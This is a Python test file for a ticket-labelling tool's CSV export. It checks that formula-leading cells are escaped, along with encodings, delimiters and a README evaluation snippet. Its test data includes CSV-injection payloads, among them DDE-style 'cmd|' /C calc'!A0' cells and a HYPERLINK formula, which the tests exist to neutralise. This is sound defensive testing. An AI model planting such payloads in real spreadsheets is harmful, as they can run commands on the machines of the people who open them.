"""The labels taken further: -o labels.csv into a spreadsheet, and the README's snippet into an evaluation."""

import asyncio
import csv
import io
import re
import sys
from pathlib import Path

import pytest

from tests.conftest import Desk
from tests.gateway import Fault, Gateway, Script
from tests.helpers import QUICK, brisk
from tests.test_readme import blocks

# What OWASP ("CSV Injection") says must not begin a cell.
FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n")
AWKWARD = {
    "t1": '=HYPERLINK("https://x.example/?"&A1;"Click")',
    "t2": "+49 30 1234567 is my number; call, please",
    "t3": "-2+3+cmd|' /C calc'!A0",
    "t4": "@SUM(1+1)*cmd|' /C calc'!A0",
    "t5": "\t=1+1",
    "t6": "\r\n=1+2",
    "t6b": "\n=1+3",
    "t6c": "\r=1+4",
    "t7": "Größe 发票 🙂",
    "t8": 'one\n\n=two, "three"; four\r\nfive',
    "t9": "'quoted' already",
    "=t10": "the id",
}


def rows_of(path: Path, delimiter: str) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8-sig") as file:
        return list(csv.reader(file, delimiter=delimiter, strict=True))


def written(path: Path, rows: list[list[str]], delimiter: str) -> None:
    """Writes a CSV as a spreadsheet does, with empty rows in it."""
    text = io.StringIO(newline="")
    csv.writer(text, delimiter=delimiter).writerows([*rows[:3], [""] * 5, [], *rows[3:]])
    path.write_bytes(text.getvalue().encode("utf-8-sig"))


def shown(cell: str) -> str:
    """A cell as it is to stand in the output."""
    return f"'{cell}" if cell.startswith(FORMULA) else cell


def reply(text: str) -> str:
    return '=HYPERLINK("https://x.example")' if "number" in text else "Bug." if "Größe" in text else "other"


@pytest.mark.parametrize("delimiter", [",", "\t"])
async def test_the_labels_stand_beside_every_cell_as_it_was_and_no_cell_is_a_formula(desk: Desk, delimiter: str):
    header = ["-Note", "Ticket ID", "Subject", "Body", "Note"]
    rows = [["-", id_, "", text, "=1+1"] for id_, text in AWKWARD.items()]
    failing = ["x", "lost", "", "fail me", ""]
    short, empty, long = ["", "short", "", "a crash"], ["y", "empty", "", " ", "z"], ["y", "long", "", "b", "z", "", ""]
    written(desk.tickets, [header, *rows, failing, short, empty, long], delimiter)
    brisk(desk, ID_COLUMN="ticket id", TEXT_COLUMNS=("Subject", "Body"), LOGPROBS=True)
    faults = (Fault("status_400", matching="fail me"),)
    async with Gateway(Script(rpm=0, latency_s=0, faults=faults, reply=reply)) as gateway:
        done = await desk.run(gateway, "-o", "labels.csv")
    assert done.status == 1
    assert "Labels: labels.csv." in done.stdout

    assert done.output.read_bytes().startswith(b"\xef\xbb\xbf")  # or Excel takes it for its old code page
    first, *others = rows_of(done.output, delimiter)
    assert first == [*map(shown, header), "model_label", "confidence", "reply"]
    labelled = [*rows, [*short, ""], empty, long[:5]]  # in the order of the file; what failed has no row
    replies = {row["id"]: row["reply"] for row in done.ledger if row["reply"]}
    for [*cells, label, confidence, said], row in zip(others, labelled, strict=True):
        assert cells == [shown(cell) for cell in row]
        answer = replies.get(row[1], "")
        assert label == ("bug" if answer == "Bug." else "other")
        assert said == shown(answer)
        assert bool(confidence) == bool(answer)
        assert not any(cell.startswith(FORMULA) for cell in (*cells, label, confidence, said))


async def test_an_export_in_utf16_with_a_hint_for_the_delimiter_becomes_a_csv_that_is_read_again(desk: Desk):
    desk.tickets.write_bytes('sep=;\r\nID;Body\r\n1;"Größe; bug"\r\n'.encode("utf-16"))
    brisk(desk)
    async with Gateway(QUICK) as gateway:
        done = await desk.run(gateway, "-o", "labels.csv")
        again = await desk.run(gateway, "labels.csv", "-o", "again.csv")
    assert (done.status, again.status) == (0, 0)
    assert rows_of(done.output, ";")[1][:3] == ["1", "Größe; bug", "bug"]
    assert rows_of(again.output, ";")[1][:3] == ["1", "Größe; bug", "bug"]


async def test_the_labels_of_one_ledger_are_written_as_lines_and_as_a_table_without_paying_twice(desk: Desk):
    desk.write({"1": "a crash", "2": "an invoice"})
    brisk(desk)
    async with Gateway(QUICK) as gateway:
        lines = await desk.run(gateway)
        table = await desk.run(gateway, "-o", "labels.csv")
        again = await desk.run(gateway)
    assert (table.status, again.status, gateway.requests) == (0, 0, 2)
    assert lines.labels == table.labels == again.labels
    names = {"classify.py", "tickets.csv", "labels.jsonl", "labels.csv", "labels.db"}
    assert {path.name for path in desk.folder.iterdir()} == names


async def snippet(containing: str, folder: Path) -> str:
    """Runs the one snippet in Python that contains this as it stands in the README; what it printed."""
    [source] = [block for block in blocks("python") if containing in block]
    process = await asyncio.create_subprocess_exec(
        sys.executable, "-c", source, cwd=folder, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE
    )
    out, err = await process.communicate()
    assert process.returncode == 0, err.decode()
    return out.decode()


async def test_the_evaluation_goes_by_model_and_by_chinese(desk: Desk):
    desk.write(
        [
            ("a", "my invoice", "billing"),
            ("b", "your invoice", "billing"),
            ("c", "an invoice that crashed", "bug"),
            ("d", "it crashed", "bug"),
            ("e", "no label by a person", ""),
            ("f", "发票", "billing"),
            ("g", "崩溃", "billing"),
            ("h", "", "other"),
        ],
        header=("id", "body", "label"),
    )
    brisk(desk, CHINESE_MODEL="qwen2.5-72b-instruct")

    def by_word(text: str) -> str:
        return "billing" if "invoice" in text or "发票" in text else "bug"

    async with Gateway(Script(rpm=0, latency_s=0, reply=by_word)) as gateway:
        assert (await desk.run(gateway)).status == 0
    said = await snippet("classification_report", desk.folder)
    parts = dict(re.findall(r"^([\w. -]+)\n(.*?\]\])$", said, re.M | re.S))
    precision_recall_f1_count = {  # by hand
        ("deepseek-chat", "billing"): ["0.67", "1.00", "0.80", "2"],
        ("deepseek-chat", "bug"): ["1.00", "0.50", "0.67", "2"],
        ("qwen2.5-72b-instruct", "billing"): ["1.00", "0.50", "0.67", "2"],
        ("Chinese", "billing"): ["1.00", "0.50", "0.67", "2"],
        ("not Chinese", "bug"): ["1.00", "0.50", "0.67", "2"],
    }
    for (group, label), numbers in precision_recall_f1_count.items():
        assert re.search(rf"^ +{label} +(.*)", parts[group], re.M)[1].split() == numbers
    assert parts["deepseek-chat"].endswith("\n[[2 0]\n [1 1]]")  # a row for each label given by a person
    assert parts["qwen2.5-72b-instruct"].endswith("\n[[1 1]\n [0 0]]")
